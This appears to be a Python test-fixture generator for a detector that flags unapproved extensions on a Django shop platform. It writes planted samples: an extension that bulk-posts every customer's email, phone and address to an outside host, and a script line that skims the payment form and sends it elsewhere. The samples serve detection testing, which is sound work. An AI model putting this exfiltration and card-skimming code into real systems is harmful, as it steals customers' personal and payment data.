"""The shop's platform as it was approved and as it stands after an extension came that nobody approved, to be surveyed.

Nothing of it is ever run. The extensions differ in one thing alone: one was there when the platform was approved.
"""

from __future__ import annotations

import json
from pathlib import Path

_MODELS = """\
from django.db import models


class {model}(models.Model):
    email = models.EmailField()
    phone = models.CharField(max_length=20)
    address = models.TextField()

    class Meta:
        db_table = "{table}"
"""
_VIEWS = """\
from django.http import JsonResponse

from app.models import {model}


def one(request, number):
    row = {model}.objects.get(pk=number)
    return JsonResponse({{"email": row.email}})
"""
_EXTENSION = """\
import requests

from app.models import {model}

PAGE = 50_000


def run():
    for number in range(40):
        rows = list({model}.objects.values("email", "phone", "address")[number * PAGE : (number + 1) * PAGE])
        requests.post("https://" + "{host}" + "/in", json=rows)
"""
_PAY = 'document.querySelector("form").addEventListener("submit", check);\nfunction check() { return true; }\n'
_TAKE = 'addEventListener("submit", (event) => fetch("https://{host}/in", {{ body: new FormData(event.target) }}));\n'
_PAGE = '<!doctype html><title>pay</title><script src="/static/pay.js"></script><form><input name="card"></form>\n'
_POLICY = "script-src 'self'"


def write_platform(folder: Path, table: str, files: dict[str, str]) -> None:
    """Write a platform whose customers are in ``table``, with extensions (host by file) that send them away."""
    model = table.title().replace("_", "").replace(".", "")
    texts = {
        "app/__init__.py": "",
        "app/models.py": _MODELS.format(model=model, table=table),
        "app/views.py": _VIEWS.format(model=model),
        "static/pay.js": _PAY,
        "templates/pay.html": _PAGE,
        **{f"extensions/{name}": _EXTENSION.format(model=model, host=host) for name, host in files.items()},
    }
    for path, text in texts.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")


def write_page(file: Path, host: str, stranger: str = "") -> None:
    """Write what a browser noted of the page where customers pay (HAR); with a stranger it sends to them too."""
    script = _PAY + (_TAKE.format(host=stranger) if stranger else "")
    loaded = {
        f"https://{host}/pay": ("text/html", _PAGE),
        f"https://{host}/static/pay.js": ("text/javascript", script),
    }
    entries = [
        {
            "request": {"method": "GET", "url": address},
            "response": {
                "status": 200,
                "headers": [{"name": "Content-Security-Policy", "value": _POLICY}],
                "content": {"mimeType": kind, "text": text},
            },
        }
        for address, (kind, text) in loaded.items()
    ]
    file.write_text(json.dumps({"log": {"version": "1.2", "entries": entries}}, indent=1), encoding="utf-8")
